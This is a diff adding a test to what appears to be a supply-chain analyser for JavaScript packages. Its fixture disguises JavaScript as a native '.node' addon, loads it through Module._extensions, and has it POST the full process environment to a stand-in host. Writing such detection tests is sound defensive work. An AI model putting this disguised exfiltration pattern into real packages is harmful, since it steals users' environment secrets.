@@ -107,4 +107,17 @@ describe('a module that is compiled from a text', () => {
     assert.deepEqual(flowsOfFile(`exports.all = () => JSON.stringify(process.env); ${send}`), ['environment>network']);
     assert.deepEqual(flowsOfFile(`module.exports = { all: () => require('os').EOL }; ${send}`), []);
   });
+
+  it('is in a file of another kind that is read as code', () => {
+    const load = (name: string): readonly string[] => {
+      const files = {
+        'index.js': `const Module = require('module'); const file = require('path').join(__dirname, 'prebuilds', 'any', 'simd.node');
+          const m = new Module(file, module); Module._extensions['${name}'].call(null, m, file); module.exports = m.exports;`,
+        'prebuilds/any/simd.node': `// simd\nfetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`,
+      };
+      return analysePackage(packageOf(files)).flows.map(({ source, sink, host }) => `${source}>${sink}@${host}`);
+    };
+    assert.deepEqual(load('.js'), ['environment>network@collect.invalid']);
+    assert.deepEqual(load('.node'), []);
+  });
 });
